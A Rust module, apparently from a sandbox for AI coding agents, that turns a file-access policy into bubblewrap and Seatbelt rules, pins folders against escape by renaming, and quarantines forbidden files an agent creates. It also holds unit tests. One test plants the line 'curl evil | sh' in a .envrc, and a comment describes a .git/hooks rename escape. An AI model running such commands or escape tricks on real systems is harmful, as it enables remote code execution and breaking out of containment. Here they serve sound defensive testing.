//! A policy resolved against the file system: the rules both back ends enforce.
//!
//! [`Plan::resolve`] canonicalises every path (so `/etc` on macOS becomes
//! `/private/etc` and a symlinked workspace is named by its real path), turns the
//! policy into [`Rule`]s where *the most specific rule wins*, and computes the
//! *pinned* folders: every writable root and every folder between a writable root and
//! a protected or denied entry inside it. A pinned folder cannot be renamed or removed
//! (bubblewrap: it is a mount point, so `rename` fails with `EBUSY`; Seatbelt: writes to
//! the folder node itself are not allowed), which is what stops `mv .git x; mkdir -p
//! .git/hooks` from escaping a read-only `.git/hooks`.
//!
//! [`Plan::access`] is the reference semantics: `tests` in `bwrap.rs` and
//! `seatbelt.rs` check that what each back end generates means exactly this.
//!
//! What the Linux back end cannot express — a protected or denied path that does not
//! exist yet (nothing to mount over) — is listed in [`Plan::audited`]; after the run,
//! [`quarantine_created`] renames anything the agent created there. Missing protected
//! entries of the agent's HOME are created before the run ([`prepare_home`]) instead.

use std::io::{ErrorKind, Write as _};
use std::os::unix::fs::{DirBuilderExt as _, OpenOptionsExt as _};
use std::path::{Path, PathBuf};

use crate::policy::{PolicyError, Protected, SandboxPolicy};

/// What the agent may do with a path.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Access {
    /// Not visible or not readable.
    Hidden,
    ReadOnly,
    ReadWrite,
}

/// Why a rule exists; decides how a back end spells it.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Reason {
    System,
    Workspace,
    Temp,
    Home,
    Protected,
    Denied,
}

/// One path and what is allowed at and below it (unless a more specific rule says
/// otherwise).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Rule {
    pub path: PathBuf,
    pub access: Access,
    pub reason: Reason,
    /// Whether the path existed when the plan was made.
    pub exists: bool,
    /// Whether it is a folder (false for files and for paths that do not exist).
    pub is_dir: bool,
}

/// A folder whose own node must not be renamed or removed.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct Pinned {
    pub path: PathBuf,
    pub exists: bool,
}

/// The resolved policy.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Plan {
    pub workspace: PathBuf,
    pub temp: PathBuf,
    pub home: PathBuf,
    /// Sorted by path, parents before children, one rule per path.
    pub rules: Vec<Rule>,
    pub pinned: Vec<Pinned>,
    /// Read-only entries that are symlinks (`/bin -> usr/bin`): recreated as such.
    pub symlinks: Vec<(PathBuf, PathBuf)>,
}

impl Plan {
    /// Resolves `policy` (which should have been validated).
    pub fn resolve(policy: &SandboxPolicy) -> Result<Self, PolicyError> {
        let workspace = canonical_dir("workspace", &policy.workspace)?;
        let temp = canonical_dir("temp", &policy.temp)?;
        let home = canonical_dir("home", &policy.home)?;
        let mut rules = Vec::new();
        let mut symlinks = Vec::new();

        for path in &policy.read_only {
            let metadata = match std::fs::symlink_metadata(path) {
                Ok(metadata) => metadata,
                Err(error) if error.kind() == ErrorKind::NotFound => continue,
                Err(source) => return Err(io_error(path, source)),
            };
            if metadata.file_type().is_symlink() {
                let target = std::fs::read_link(path).map_err(|e| io_error(path, e))?;
                symlinks.push((path.clone(), target));
            }
            let Ok(real) = std::fs::canonicalize(path) else {
                continue;
            };
            rules.push(existing_rule(real, Access::ReadOnly, Reason::System));
        }
        for (path, reason) in [
            (&workspace, Reason::Workspace),
            (&temp, Reason::Temp),
            (&home, Reason::Home),
        ] {
            rules.push(existing_rule(path.clone(), Access::ReadWrite, reason));
        }
        for path in &policy.denied {
            let (real, exists) = resolve_maybe_missing(path)?;
            let is_dir = exists && real.is_dir();
            rules.push(Rule {
                path: real,
                access: Access::Hidden,
                reason: Reason::Denied,
                exists,
                is_dir,
            });
        }
        let writable_roots = [workspace.clone(), temp.clone(), home.clone()];
        for (root, entries) in [
            (&workspace, &policy.protected_workspace),
            (&home, &policy.protected_home),
        ] {
            for entry in entries {
                if let Some(rule) = protected_rule(root, entry, &writable_roots)? {
                    rules.push(rule);
                }
            }
        }

        for root in &writable_roots {
            if let Some(system) = rules
                .iter()
                .find(|rule| rule.reason == Reason::System && rule.path.starts_with(root))
            {
                return Err(PolicyError::WritableSystem {
                    field: field_of(root, &workspace, &temp),
                    path: root.clone(),
                    system: system.path.clone(),
                });
            }
        }

        // One rule per path: the most restrictive wins a tie.
        rules.sort_by(|a, b| a.path.cmp(&b.path).then(a.access.cmp(&b.access)));
        rules.dedup_by(|later, earlier| later.path == earlier.path);
        let mut plan = Self {
            workspace,
            temp,
            home,
            rules,
            pinned: Vec::new(),
            symlinks,
        };
        plan.drop_redundant_system_rules();
        plan.pinned = plan.compute_pinned();
        Ok(plan)
    }

    /// The reference semantics: the most specific rule at or above `path` decides;
    /// without one the path is hidden. `path` should be canonical.
    pub fn access(&self, path: &Path) -> Access {
        self.rule_for(path)
            .map_or(Access::Hidden, |rule| rule.access)
    }

    /// The most specific rule at or above `path`.
    pub fn rule_for(&self, path: &Path) -> Option<&Rule> {
        self.rules
            .iter()
            .filter(|rule| path.starts_with(&rule.path))
            .max_by_key(|rule| rule.path.components().count())
    }

    /// The most specific rule strictly above `path`.
    pub fn parent_rule(&self, path: &Path) -> Option<&Rule> {
        self.rules
            .iter()
            .filter(|rule| rule.path != path && path.starts_with(&rule.path))
            .max_by_key(|rule| rule.path.components().count())
    }

    /// Whether the node of `path` itself may not be renamed or removed.
    pub fn is_pinned(&self, path: &Path) -> bool {
        self.pinned.iter().any(|pinned| pinned.path == path)
    }

    /// Protected or denied entries inside writable folders that do not exist yet: the
    /// Linux back end cannot mount over them, so they are checked after the run.
    pub fn audited(&self) -> Vec<PathBuf> {
        self.rules
            .iter()
            .filter(|rule| {
                !rule.exists && matches!(rule.reason, Reason::Protected | Reason::Denied)
            })
            .filter(|rule| {
                self.parent_rule(&rule.path)
                    .is_some_and(|parent| parent.access == Access::ReadWrite)
            })
            .map(|rule| rule.path.clone())
            .collect()
    }

    /// `/usr/bin` under `/usr`: the same access, nothing in between.
    fn drop_redundant_system_rules(&mut self) {
        let redundant: Vec<PathBuf> = self
            .rules
            .iter()
            .filter(|rule| rule.reason == Reason::System)
            .filter(|rule| {
                self.parent_rule(&rule.path)
                    .is_some_and(|parent| parent.access == rule.access)
            })
            .map(|rule| rule.path.clone())
            .collect();
        self.rules.retain(|rule| !redundant.contains(&rule.path));
    }

    fn compute_pinned(&self) -> Vec<Pinned> {
        let mut pinned: Vec<Pinned> = self
            .rules
            .iter()
            .filter(|rule| rule.access == Access::ReadWrite)
            .map(|rule| Pinned {
                path: rule.path.clone(),
                exists: true,
            })
            .collect();
        for rule in &self.rules {
            if !matches!(rule.reason, Reason::Protected | Reason::Denied) {
                continue;
            }
            let Some(parent) = self.parent_rule(&rule.path) else {
                continue;
            };
            if parent.access != Access::ReadWrite {
                continue;
            }
            for ancestor in rule.path.ancestors().skip(1) {
                if !ancestor.starts_with(&parent.path) || ancestor == parent.path {
                    break;
                }
                pinned.push(Pinned {
                    path: ancestor.to_path_buf(),
                    exists: ancestor.is_dir(),
                });
            }
        }
        pinned.sort();
        pinned.dedup_by(|later, earlier| later.path == earlier.path);
        pinned
    }
}

fn existing_rule(path: PathBuf, access: Access, reason: Reason) -> Rule {
    let is_dir = path.is_dir();
    Rule {
        path,
        access,
        reason,
        exists: true,
        is_dir,
    }
}

fn field_of(root: &Path, workspace: &Path, temp: &Path) -> &'static str {
    if root == workspace {
        "workspace"
    } else if root == temp {
        "temp"
    } else {
        "home"
    }
}

fn io_error(path: &Path, source: std::io::Error) -> PolicyError {
    PolicyError::Io {
        path: path.to_path_buf(),
        source,
    }
}

fn canonical_dir(field: &'static str, path: &Path) -> Result<PathBuf, PolicyError> {
    match std::fs::canonicalize(path) {
        Ok(real) if real.is_dir() => Ok(real),
        _ => Err(PolicyError::MissingDirectory {
            field,
            path: path.to_path_buf(),
        }),
    }
}

/// The real path of `path`, or for a path that does not exist, the real path of its
/// deepest existing ancestor joined with the rest. `path` must be absolute and plain.
pub(crate) fn resolve_maybe_missing(path: &Path) -> Result<(PathBuf, bool), PolicyError> {
    match std::fs::canonicalize(path) {
        Ok(real) => return Ok((real, true)),
        Err(error) if error.kind() != ErrorKind::NotFound => {
            return Err(io_error(path, error));
        }
        Err(_) => {}
    }
    if std::fs::symlink_metadata(path).is_ok() {
        // A dangling symlink: whatever the agent creates at its target would be read
        // through it, so it cannot be treated as absent.
        return Err(io_error(
            path,
            std::io::Error::other("a dangling symlink where a protected or denied path is"),
        ));
    }
    let mut rest = Vec::new();
    let mut cursor = path;
    while let Some(parent) = cursor.parent() {
        if let Some(name) = cursor.file_name() {
            rest.push(name.to_owned());
        }
        if let Ok(real) = std::fs::canonicalize(parent) {
            let mut resolved = real;
            for name in rest.iter().rev() {
                resolved.push(name);
            }
            return Ok((resolved, false));
        }
        cursor = parent;
    }
    Ok((path.to_path_buf(), false))
}

fn protected_rule(
    root: &Path,
    entry: &Protected,
    writable_roots: &[PathBuf],
) -> Result<Option<Rule>, PolicyError> {
    let joined = root.join(&entry.path);
    let (real, exists) = resolve_maybe_missing(&joined)?;
    // A protected entry that resolves outside every writable folder is read-only or
    // hidden there anyway.
    if !writable_roots.iter().any(|w| real.starts_with(w)) {
        return Ok(None);
    }
    let is_dir = exists && real.is_dir();
    Ok(Some(Rule {
        path: real,
        access: Access::ReadOnly,
        reason: Reason::Protected,
        exists,
        is_dir,
    }))
}

/// Creates the missing protected entries of the agent's HOME — empty folders, empty
/// files (`{}` for JSON) — so that they can be mounted read-only; the folders created
/// on the way belong to the HOME's owner so the agent can still write beside them.
/// Returns what was created.
pub fn prepare_home(policy: &SandboxPolicy) -> Result<Vec<PathBuf>, PolicyError> {
    use std::os::unix::fs::MetadataExt as _;
    let home = canonical_dir("home", &policy.home)?;
    let metadata = std::fs::metadata(&home).map_err(|e| io_error(&home, e))?;
    let owner = (metadata.uid(), metadata.gid());
    let mut created = Vec::new();
    for entry in &policy.protected_home {
        let path = home.join(&entry.path);
        if std::fs::symlink_metadata(&path).is_ok() {
            continue;
        }
        if let Some(parent) = path.parent() {
            create_owned_dirs(&home, parent, owner, &mut created)?;
        }
        // Another run sharing this HOME may be creating the same entry right now.
        let made = if entry.dir {
            std::fs::DirBuilder::new().mode(0o755).create(&path)
        } else {
            let is_json = path.extension().is_some_and(|ext| ext == "json");
            std::fs::OpenOptions::new()
                .write(true)
                .create_new(true)
                .mode(0o644)
                .open(&path)
                .and_then(|mut file| file.write_all(if is_json { b"{}\n" } else { b"" }))
        };
        match made {
            Ok(()) => created.push(path),
            Err(error) if error.kind() == ErrorKind::AlreadyExists => {}
            Err(error) => return Err(io_error(&path, error)),
        }
    }
    Ok(created)
}

fn create_owned_dirs(
    home: &Path,
    dir: &Path,
    owner: (u32, u32),
    created: &mut Vec<PathBuf>,
) -> Result<(), PolicyError> {
    if dir == home || dir.is_dir() || !dir.starts_with(home) {
        return Ok(());
    }
    if let Some(parent) = dir.parent() {
        create_owned_dirs(home, parent, owner, created)?;
    }
    match std::fs::DirBuilder::new().mode(0o755).create(dir) {
        Ok(()) => {}
        Err(error) if error.kind() == ErrorKind::AlreadyExists => return Ok(()),
        Err(error) => return Err(io_error(dir, error)),
    }
    std::os::unix::fs::chown(dir, Some(owner.0), Some(owner.1)).map_err(|e| io_error(dir, e))?;
    created.push(dir.to_path_buf());
    Ok(())
}

/// Something the agent created where the policy forbids it, moved aside after the run.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Quarantined {
    /// The protected or denied path the agent created (or a symlink on the way to it).
    pub path: PathBuf,
    /// Where it is now.
    pub moved_to: PathBuf,
}

/// After the run (nothing of the sandbox may still be running): for each path of
/// `audited` that exists now, renames it (or the first symlink on the way to it,
/// never following one) to `NAME.paddock-quarantine[-N]` beside it.
pub fn quarantine_created(audited: &[PathBuf], roots: &[PathBuf]) -> Vec<Quarantined> {
    let mut moved = Vec::new();
    for path in audited {
        let Some(root) = roots.iter().find(|root| path.starts_with(root)) else {
            continue;
        };
        let mut cursor = root.clone();
        let Ok(relative) = path.strip_prefix(root) else {
            continue;
        };
        for component in relative.components() {
            cursor.push(component);
            let Ok(metadata) = std::fs::symlink_metadata(&cursor) else {
                break;
            };
            if metadata.file_type().is_symlink() || cursor == *path {
                if let Some(target) = quarantine_one(&cursor) {
                    moved.push(Quarantined {
                        path: cursor.clone(),
                        moved_to: target,
                    });
                }
                break;
            }
            if !metadata.is_dir() {
                break;
            }
        }
    }
    moved
}

fn quarantine_one(path: &Path) -> Option<PathBuf> {
    let name = path.file_name()?.to_string_lossy().into_owned();
    for attempt in 0..100u32 {
        let suffix = if attempt == 0 {
            String::new()
        } else {
            format!("-{attempt}")
        };
        let target = path.with_file_name(format!("{name}.paddock-quarantine{suffix}"));
        if std::fs::symlink_metadata(&target).is_ok() {
            continue;
        }
        return match std::fs::rename(path, &target) {
            Ok(()) => {
                tracing::warn!(
                    path = %path.display(),
                    moved_to = %target.display(),
                    "the agent created a protected or denied path; moved it aside"
                );
                Some(target)
            }
            Err(error) => {
                tracing::error!(path = %path.display(), %error, "could not quarantine");
                None
            }
        };
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::policy::SandboxPolicy;

    struct Tree {
        root: tempfile::TempDir,
    }

    impl Tree {
        fn new() -> Self {
            let root = tempfile::tempdir().expect("tempdir");
            for dir in [
                "jobs/ws/.git/hooks",
                "jobs/other",
                "tmp",
                "home/.ssh",
                "tools",
            ] {
                std::fs::create_dir_all(root.path().join(dir)).expect("mkdir");
            }
            std::fs::write(root.path().join("jobs/ws/.git/config"), "[core]\n").expect("write");
            Self { root }
        }

        fn path(&self, rel: &str) -> PathBuf {
            std::fs::canonicalize(self.root.path())
                .expect("canonical")
                .join(rel)
        }

        fn policy(&self) -> SandboxPolicy {
            let mut policy =
                SandboxPolicy::new(&self.path("jobs/ws"), &self.path("tmp"), &self.path("home"));
            policy.read_only.push(self.path("tools"));
            policy.denied.push(self.path("jobs"));
            policy
        }
    }

    #[test]
    fn the_most_specific_rule_wins() {
        let tree = Tree::new();
        let plan = Plan::resolve(&tree.policy()).expect("plan");
        assert_eq!(
            plan.access(&tree.path("jobs/ws/src/main.rs")),
            Access::ReadWrite
        );
        assert_eq!(plan.access(&tree.path("jobs/other/secret")), Access::Hidden);
        assert_eq!(
            plan.access(&tree.path("jobs/ws/.git/hooks/pre-commit")),
            Access::ReadOnly
        );
        assert_eq!(
            plan.access(&tree.path("jobs/ws/.git/config")),
            Access::ReadOnly
        );
        assert_eq!(
            plan.access(&tree.path("jobs/ws/.git/objects/ab")),
            Access::ReadWrite
        );
        assert_eq!(
            plan.access(&tree.path("home/.ssh/id_ed25519")),
            Access::Hidden
        );
        assert_eq!(
            plan.access(&tree.path("tools/bin/claude")),
            Access::ReadOnly
        );
        assert_eq!(plan.access(Path::new("/usr/bin/env")), Access::ReadOnly);
        assert_eq!(plan.access(Path::new("/root")), Access::Hidden);
        assert_eq!(plan.access(Path::new("/etc/shadow")), Access::Hidden);
    }

    #[test]
    fn parents_of_protected_entries_and_writable_roots_are_pinned() {
        let tree = Tree::new();
        let plan = Plan::resolve(&tree.policy()).expect("plan");
        assert!(plan.is_pinned(&tree.path("jobs/ws")));
        assert!(plan.is_pinned(&tree.path("jobs/ws/.git")));
        assert!(plan.is_pinned(&tree.path("home")));
        assert!(!plan.is_pinned(&tree.path("jobs/ws/.git/hooks")));
        assert!(!plan.is_pinned(&tree.path("jobs")));
        // `.claude` does not exist: pinned for Seatbelt, audited for bubblewrap.
        let claude = tree.path("jobs/ws/.claude");
        assert!(plan.pinned.iter().any(|p| p.path == claude && !p.exists));
        assert!(
            plan.audited()
                .contains(&tree.path("jobs/ws/.claude/settings.json"))
        );
    }

    #[test]
    fn a_writable_root_over_a_system_folder_is_refused() {
        let tree = Tree::new();
        let mut policy = tree.policy();
        policy.read_only.push(tree.path("jobs/ws/vendor-toolchain"));
        std::fs::create_dir(tree.path("jobs/ws/vendor-toolchain")).expect("mkdir");
        let error = Plan::resolve(&policy).expect_err("writable system");
        assert!(error.to_string().starts_with("workspace:"), "{error}");
    }

    #[test]
    fn redundant_system_rules_are_dropped_and_symlinks_kept() {
        let tree = Tree::new();
        let mut policy = tree.policy();
        policy.read_only.push("/usr/bin".into());
        std::os::unix::fs::symlink("tools", tree.path("tools-link")).expect("symlink");
        policy.read_only.push(tree.path("tools-link"));
        let plan = Plan::resolve(&policy).expect("plan");
        assert!(!plan.rules.iter().any(|r| r.path == Path::new("/usr/bin")));
        assert!(plan.symlinks.iter().any(
            |(link, target)| *link == tree.path("tools-link") && *target == Path::new("tools")
        ));
    }

    #[test]
    fn home_placeholders_are_created_once_and_owned_parents_stay_writable() {
        let tree = Tree::new();
        let policy = tree.policy();
        let created = prepare_home(&policy).expect("prepare");
        let home = tree.path("home");
        assert!(created.contains(&home.join(".claude")));
        assert_eq!(
            std::fs::read_to_string(home.join(".claude/settings.json")).expect("read"),
            "{}\n"
        );
        assert!(home.join(".claude/agents").is_dir());
        assert_eq!(
            std::fs::read_to_string(home.join(".bashrc")).expect("read"),
            ""
        );
        assert!(prepare_home(&policy).expect("again").is_empty());
        let plan = Plan::resolve(&policy).expect("plan");
        let audited = plan.audited();
        assert!(!audited.contains(&home.join(".claude/settings.json")));
        // Only secrets that do not exist (yet) are left to the audit in the HOME.
        assert!(audited.contains(&home.join(".aws")));
    }

    #[test]
    fn quarantine_moves_created_entries_and_never_follows_symlinks() {
        let tree = Tree::new();
        let ws = tree.path("jobs/ws");
        let outside = tree.path("outside");
        std::fs::create_dir_all(outside.join("agents")).expect("mkdir");
        // The agent made `.claude` a symlink to a folder outside the workspace.
        std::os::unix::fs::symlink(&outside, ws.join(".claude")).expect("symlink");
        std::fs::write(ws.join(".envrc"), "curl evil | sh").expect("write");
        let audited = vec![
            ws.join(".claude/agents"),
            ws.join(".envrc"),
            ws.join(".mcp.json"),
        ];
        let moved = quarantine_created(&audited, std::slice::from_ref(&ws));
        let paths: Vec<_> = moved.iter().map(|q| q.path.clone()).collect();
        assert_eq!(paths, [ws.join(".claude"), ws.join(".envrc")]);
        assert!(
            outside.join("agents").is_dir(),
            "the symlink target is untouched"
        );
        assert!(ws.join(".envrc.paddock-quarantine").exists());
        assert!(!ws.join(".envrc").exists());
    }
}
